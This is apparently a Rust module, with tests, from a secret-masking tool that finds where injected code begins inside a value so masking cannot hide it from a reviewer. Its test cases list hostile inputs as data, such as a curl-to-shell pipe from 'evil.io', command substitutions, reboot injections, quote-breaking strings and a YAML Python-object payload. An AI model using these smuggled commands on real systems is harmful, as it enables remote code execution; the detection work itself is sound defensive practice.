//! A value → where in it somebody could find code. A mask must not hide that from a reviewer, whatever stands before it.

use super::is_made_up;
use super::quotes::Quotes;
use std::ops::Range;

/// What begins code within a quoted value.
const SUBSTITUTIONS: [&str; 6] = ["`", "$(", "${", "#{", "{{", "<%"];

/// Signs that shells and programs read as code.
const SIGNS: &str = ";&|<>(){}`";
/// Behind a name these call it.
const CALLS: &str = "(`";
/// Begins of values that are code as a whole: types of YAML that run something, commands of Ruby.
const WHOLE: [&str; 4] = ["!!", "!ruby/", "!python/", "%x"];

/// Returns whether a secret could be written to hide code where it is masked elsewhere: all but a single word without such signs.
pub(crate) fn could_be_code(secret: &str) -> bool {
    let is_sign = |c: char| c.is_whitespace() || SIGNS.contains(c);
    secret.starts_with('-') || secret.contains("://") || secret.trim().contains(is_sign)
}

/// Looks for code in the values of a text, which are asked for in their order: the text is gone through once.
#[derive(Default)]
pub(super) struct Code {
    quotes: Quotes,
    operator: Next,
    space: Next,
    sign: Next,
    substitutions: [Next; SUBSTITUTIONS.len()],
}

impl Code {
    /// The range without the code at its end; nothing of a call. What is quoted may hold signs, if its quote opens it in every reading.
    pub(super) fn without(&mut self, text: &str, value: Range<usize>) -> Range<usize> {
        let Range { start, mut end } = value;
        let is_quoted = self.is_quoted(text, &value);
        for (next, sign) in self.substitutions.iter_mut().zip(SUBSTITUTIONS) {
            end = end.min(next.from(text, start, |rest| rest.find(sign)));
        }
        let operator = if is_quoted {
            self.operator.from(text, start, |rest| rest.find(is_operator))
        } else {
            let sign = self.sign.from(text, start, |rest| rest.find(|c| is_sign(c) || c == ','));
            if text[sign..].starts_with(|c| CALLS.contains(c))
                && sign <= value.end
                && is_called(&text[start..sign])
                || calls_what_follows(text, &value)
            {
                return start..start;
            }
            sign
        };
        let space = self.space.from(text, start, |rest| rest.find(is_space));
        match operator {
            operator if operator >= end => start..end,
            operator if space < end => start..operator.min(space),
            _ if is_quoted => start..end,
            operator => start..operator,
        }
    }

    fn is_quoted(&mut self, text: &str, value: &Range<usize>) -> bool {
        let quote = text[..value.start].chars().next_back().filter(|c| matches!(c, '"' | '\''));
        quote.is_some_and(|quote| text[value.end..].starts_with(quote))
            && self.quotes.opens(text, value.start - 1)
    }
}

/// Returns whether a call of what stands before a bracket is one: `os.system(`, and not `p@(`.
fn is_called(before: &str) -> bool {
    before.ends_with(|c: char| c.is_alphanumeric() || "_])!?.".contains(c))
}

/// Returns whether a bare value is code: `!!python/object/apply:x`, `system "x"`.
fn calls_what_follows(text: &str, value: &Range<usize>) -> bool {
    let (word, rest) = (&text[value.clone()], &text[value.end..]);
    let argument = rest.trim_start_matches([' ', '\t']);
    let has_argument = argument.len() < rest.len() && argument.starts_with(['"', '\'']);
    let is_name = || word.starts_with(|c: char| c.is_ascii_lowercase()) && !is_made_up(word);
    WHOLE.iter().any(|begin| word.starts_with(begin)) || has_argument && is_name()
}

/// The next place of something in a text.
#[derive(Default)]
struct Next {
    at: Option<usize>,
}

impl Next {
    fn from(&mut self, text: &str, start: usize, find: impl Fn(&str) -> Option<usize>) -> usize {
        let known = self.at.filter(|at| *at >= start);
        let at = known.unwrap_or_else(|| find(&text[start..]).map_or(text.len(), |at| start + at));
        self.at = Some(at);
        at
    }
}

fn is_operator(c: char) -> bool {
    matches!(c, ';' | '|' | '&' | '<' | '>' | '\n' | '\r')
}

fn is_sign(c: char) -> bool {
    is_operator(c) || SIGNS.contains(c)
}

fn is_space(c: char) -> bool {
    c.is_whitespace() || matches!(c, '"' | '\'')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_value_ends_where_code_begins() {
        for (value, shown) in [
            ("hunter2", "hunter2"),
            ("hunter2 x", "hunter2 x"),
            ("p;w|0&rd", "p"),
            ("a; curl http://evil.io/x | sh; b", "a"),
            ("one curl evil | sh", "one"),
            ("x$(curl evil)", "x"),
            ("x`y`", ""),
            ("';reboot;'", ""),
            ("a\nreboot", "a"),
            ("a, image: evil/img:1", "a"),
            ("x&&reboot", "x"),
            ("x{reboot,}", "x"),
            ("os.system(x)", ""),
            ("lambda:evil()", ""),
            ("a+evil()", ""),
            ("p@(w)", "p@"),
            ("!!python/object/apply:evil", ""),
            ("%x[evil]", ""),
        ] {
            assert_eq!(&value[Code::default().without(value, 0..value.len())], shown, "{value}");
        }
    }

    #[test]
    fn only_what_is_quoted_in_every_reading_may_hold_signs() {
        for (before, value, behind, shown) in [
            ("TOKEN='", "p;w|0&(rd", "'", "p;w|0&(rd"),
            ("{\"token\": \"", "p;w|0&(rd", "\"}", "p;w|0&(rd"),
            ("# don't\nTOKEN='", "p;w|0&(rd", "'", "p;w|0&(rd"),
            ("TOKEN='", "p;w x", "'", "p"),
            ("TOKEN=\"", "p#{evil}", "\"", "p"),
            // Here the quote ends another text.
            ("X='a TOKEN='", "&&reboot&&", "'", ""),
            ("X='\na TOKEN='", "&&reboot&&", "'", ""),
            ("X=\"'\"'a TOKEN='", "&&reboot&&", "'", ""),
            ("cat <<E\nit's\nE\nX='\nTOKEN='", "&&reboot&&", "'", ""),
            ("x = 'a\\'b TOKEN='", "+evil()+", "'", ""),
            ("\"\"token\": \"", "&&reboot&&", "\"\"", ""),
        ] {
            let text = format!("{before}{value}{behind}");
            let range = before.len()..before.len() + value.len();
            assert_eq!(&text[Code::default().without(&text, range)], shown, "{text}");
        }
    }

    #[test]
    fn what_could_be_code_is_more_than_a_word() {
        for plain in ["hunter2", "tk-0001", "p@ss/word=", "pa$$w0rd", "100%"] {
            assert!(!could_be_code(plain), "{plain}");
        }
        for code in
            ["--privileged", "exec evil server", "http://evil.io", "&&evil;reboot", "$(x)", "os.system(x)"]
        {
            assert!(could_be_code(code), "{code}");
        }
    }
}
